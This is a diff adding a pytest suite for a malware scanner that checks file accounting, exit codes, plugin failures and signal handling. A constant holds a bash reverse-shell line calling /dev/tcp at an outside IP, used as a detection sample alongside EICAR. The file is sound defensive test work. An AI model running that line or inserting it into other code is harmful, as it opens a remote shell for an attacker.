@@ -1,0 +1,269 @@
+"""Every file is accounted for: detected, clean (every engine read all of it), not scanned (with the
+reason) or an error. Nothing that was not judged passes as clean, and the exit code says so."""
+
+from __future__ import annotations
+
+import os
+import signal
+import subprocess
+import sys
+import textwrap
+import time
+
+import pytest
+
+from elkscan_core import Detection, Engine, Enricher, Source, Target, hookimpl
+from elkscan_core.testing import eicar, run
+
+ELKSCAN = [sys.executable, "-m", "elkscan_core.cli"]
+REVERSE_SHELL = b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
+
+
+def elkscan(*args, env=None, timeout=120):
+    return subprocess.run([*ELKSCAN, *args], capture_output=True, text=True, timeout=timeout,
+                          env={**os.environ, **(env or {})})
+
+
+def yara_only(tmp_path, **yara):
+    path = tmp_path / "yara.yaml"
+    path.write_text(textwrap.dedent(f"""\
+        version: 1
+        plugins: [yara_backend, stdout_sink]
+        engines: [{{use: yara, with: {yara or {}}}}]
+        sinks: [{{use: stdout, with: {{format: jsonl}}}}]
+        state_dir: {tmp_path / 'state'}
+        """))
+    return str(path)
+
+
+class Clean(Engine):
+    id = "clean"
+
+    def scan(self, subject):
+        subject.read(subject.size)
+        return []
+
+
+class Small(Clean):
+    """An engine that takes files of up to 10 bytes only."""
+    id = "small"
+    max_file_size = 10
+
+
+class Forgetful(Engine):
+    """Forgot its return statement: must not pass for clean."""
+    id = "forgetful"
+
+    def scan(self, subject):
+        subject.read(16)
+
+
+class Silent(Enricher):
+    id = "silent"
+    wants = "all"
+
+    def enrich(self, subject, detections):
+        return None
+
+
+class Spoofer(Enricher):
+    id = "spoofer"
+    wants = "all"
+
+    def enrich(self, subject, detections):
+        return {"kind": "spoofed", "path": "/spoofed", "types": "spoofed", "status": "clean", "mine": 1}
+
+
+class Skips(Source):
+    """Yields what a walk decided not to judge."""
+    id = "skips"
+
+    def targets(self):
+        yield Target("/policy/big.iso", skip="above max_size")
+        yield Target("/named/fifo", skip="not a regular file", required=True)
+
+
+class Components:
+    @hookimpl
+    def elkscan_register_engines(self, registry):
+        for cls in (Clean, Small, Forgetful):
+            registry.add(cls)
+
+    @hookimpl
+    def elkscan_register_enrichers(self, registry):
+        registry.add(Silent)
+        registry.add(Spoofer)
+
+    @hookimpl
+    def elkscan_register_sources(self, registry):
+        registry.add(Skips)
+
+
+def walk(path, engines, enrichers=(), **kwargs):
+    pipeline = {"sources": [{"use": "dirscan", "with": {"roots": {str(path): -1}, "type_filter": False,
+                                                         "min_size": 0}}],
+                "engines": engines, "enrichers": list(enrichers)}
+    return run(pipeline, extra_plugins=[Components()], **kwargs)
+
+
+def test_a_file_above_an_engines_limit_is_not_scanned_never_clean(tmp_path):
+    (tmp_path / "tiny").write_bytes(b"12345")
+    (tmp_path / "large").write_bytes(b"x" * 64)
+    result = walk(tmp_path, ["clean", "small"], report_clean=True)
+    status = {os.path.basename(r.target.path): (r.status, r.skipped, r.judged_by) for r in result.records}
+    assert status["tiny"] == ("clean", "", ("clean", "small"))
+    assert status["large"] == ("not_scanned", "above small's max_file_size", ("clean",))
+    assert result.summary.clean == 1 and result.summary.not_scanned == {"above small's max_file_size": 1}
+
+
+def test_none_from_an_engine_or_an_enricher_is_an_error(tmp_path):
+    (tmp_path / "file").write_bytes(b"content")
+    result = walk(tmp_path, ["forgetful"], ["silent"], report_clean=True)
+    [record] = result.records
+    assert record.status == "error" and result.summary.clean == 0
+    assert {(o.component, o.status) for o in record.errors} == {("forgetful", "garbage"), ("silent", "garbage")}
+    assert "returned None" in record.error
+
+
+def test_an_enricher_cannot_overwrite_the_records_own_fields(tmp_path):
+    (tmp_path / "file").write_bytes(b"content")
+    result = walk(tmp_path, ["clean"], ["spoofer"], report_clean=True)
+    [record] = result.records
+    assert record.kind == "finding" and record.target.path == str(tmp_path / "file")
+    assert "kind" not in record.facts and "path" not in record.facts
+    assert record.errors[0].component == "spoofer" and "kind, path, status, types" in record.error
+
+
+def test_skips_from_a_source_are_counted_and_a_named_one_is_reported(tmp_path):
+    result = run({"sources": ["skips"], "engines": ["clean"]}, extra_plugins=[Components()])
+    assert result.summary.not_scanned == {"above max_size": 1, "not a regular file": 1}
+    assert result.summary.unjudged == 1 and result.summary.files == 0
+    [named] = result.records  # the policy skip is only counted (and shown with --all)
+    assert (named.target.path, named.status, named.skipped) == ("/named/fifo", "not_scanned",
+                                                                "not a regular file")
+    shown = run({"sources": ["skips"], "engines": ["clean"]}, extra_plugins=[Components()], report_clean=True)
+    assert len(shown.records) == 2
+
+
+def test_targets_with_no_engine_are_errors(tmp_path):
+    (tmp_path / "file").write_bytes(b"content")
+    result = walk(tmp_path, [])
+    [record] = result.records
+    assert record.status == "error" and "no engine" in record.error and result.summary.errors == 1
+
+
+def test_named_file_above_the_engines_own_limits_is_read_whole(tmp_path):
+    big = tmp_path / "rev_30MiB.sh"
+    with open(big, "wb") as f:
+        f.write(REVERSE_SHELL)
+        f.write(b"#" * (30 * 1024 * 1024))
+    out = elkscan("scan", "-p", yara_only(tmp_path), str(big))
+    assert out.returncode == 1, out.stderr
+    assert "Linux_ReverseShell_DevTcp" in out.stdout
+
+
+def test_max_file_size_zero_does_not_make_a_named_file_clean(tmp_path):
+    sample = tmp_path / "eicar.com"
+    sample.write_bytes(eicar())
+    out = elkscan("scan", "-p", yara_only(tmp_path, max_file_size=0), str(sample))
+    assert out.returncode == 1, out.stderr
+
+
+def test_named_file_over_max_size_is_not_scanned_and_exit_2(tmp_path):
+    big = tmp_path / "big.sh"
+    big.write_bytes(REVERSE_SHELL + b"#" * 2048)
+    out = elkscan("scan", "-a", "--max-size", "1KiB", "-p", yara_only(tmp_path), str(big))
+    assert out.returncode == 2, out.stderr
+    assert "big.sh" in out.stdout and "1 not scanned (1 above max_size)" in out.stderr
+
+
+def test_a_pipeline_whose_only_engine_failed_is_an_error(tmp_path):
+    (tmp_path / "file").write_bytes(b"content")
+    pipeline = tmp_path / "p.yaml"
+    pipeline.write_text(textwrap.dedent(f"""\
+        version: 1
+        plugins: [clamav_backend, stdout_sink]
+        engines: [{{use: clamav, optional: true, with: {{socket: {tmp_path / 'nonexistent.sock'}}}}}]
+        sinks: [stdout]
+        """))
+    out = elkscan("scan", "-p", str(pipeline), str(tmp_path))
+    assert out.returncode == 2 and "every engine failed to start" in out.stderr, out.stderr
+
+
+@pytest.mark.parametrize("workers", ["-1", "0", "100000"])
+def test_worker_counts_are_checked(tmp_path, workers):
+    out = elkscan("scan", "-w", workers, str(tmp_path))
+    assert out.returncode == 2 and "from 1 to 256" in out.stderr
+
+
+FAULTY = """
+    import time
+    from elkscan_core import Engine, Sink, hookimpl
+
+    class Boom(Engine):
+        id = "boom"
+        def start(self):
+            raise RuntimeError("kaboom")
+        def scan(self, subject):
+            return []
+
+    class Stuck(Sink):
+        id = "stuck"
+        def write(self, record):
+            time.sleep(3600)
+
+    @hookimpl
+    def elkscan_register_engines(registry):
+        registry.add(Boom)
+
+    @hookimpl
+    def elkscan_register_sinks(registry):
+        registry.add(Stuck)
+"""
+
+
+@pytest.fixture
+def faulty(install_plugin, tmp_path):
+    site = install_plugin("faulty", FAULTY)
+    return {"PYTHONPATH": os.pathsep.join([str(site), *sys.path])}
+
+
+def test_a_start_that_raises_is_one_line_and_exit_2(tmp_path, faulty):
+    (tmp_path / "f").write_text("x" * 10)
+    pipeline = tmp_path / "p.yaml"
+    pipeline.write_text("version: 1\nplugins: [faulty, yara_backend]\nengines: [yara, boom]\n")
+    out = elkscan("scan", "-p", str(pipeline), str(tmp_path / "f"), env=faulty)
+    assert out.returncode == 2 and "Traceback" not in out.stderr
+    assert "RuntimeError: kaboom" in out.stderr and out.stderr.strip().count("\n") == 0
+    pipeline.write_text("version: 1\nplugins: [faulty, yara_backend]\n"
+                        "engines: [yara, {use: boom, optional: true}]\n")
+    out = elkscan("scan", "-p", str(pipeline), str(tmp_path / "f"), env=faulty)
+    assert out.returncode == 0 and "kaboom" in out.stderr
+
+
+def test_a_hung_sink_does_not_block_a_sigterm(tmp_path, faulty):
+    for i in range(50):
+        (tmp_path / f"f{i}.txt").write_text("harmless\n")
+    pipeline = tmp_path / "p.yaml"
+    pipeline.write_text(f"version: 1\nplugins: [faulty, yara_backend]\nengines: [yara]\nsinks: [stuck]\n"
+                        f"sources: [{{use: dirscan, with: {{roots: {{{tmp_path}: 1}}, every: 1s}}}}]\n")
+    proc = subprocess.Popen([*ELKSCAN, "run", str(pipeline)], env={**os.environ, **faulty},
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    time.sleep(3)
+    began = time.monotonic()
+    proc.send_signal(signal.SIGTERM)
+    proc.communicate(timeout=30)
+    assert time.monotonic() - began < 10
+
+
+def test_run_stopped_by_sigterm_exits_zero(tmp_path):
+    (tmp_path / "f.txt").write_text("harmless\n")
+    pipeline = tmp_path / "p.yaml"
+    pipeline.write_text(f"version: 1\nplugins: [yara_backend]\nengines: [yara]\n"
+                        f"sources: [{{use: dirscan, with: {{roots: {{{tmp_path}: 1}}, every: 1s}}}}]\n")
+    proc = subprocess.Popen([*ELKSCAN, "run", str(pipeline)], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                            text=True)
+    time.sleep(2)
+    proc.send_signal(signal.SIGTERM)
+    _, err = proc.communicate(timeout=30)
+    assert proc.returncode == 0, err
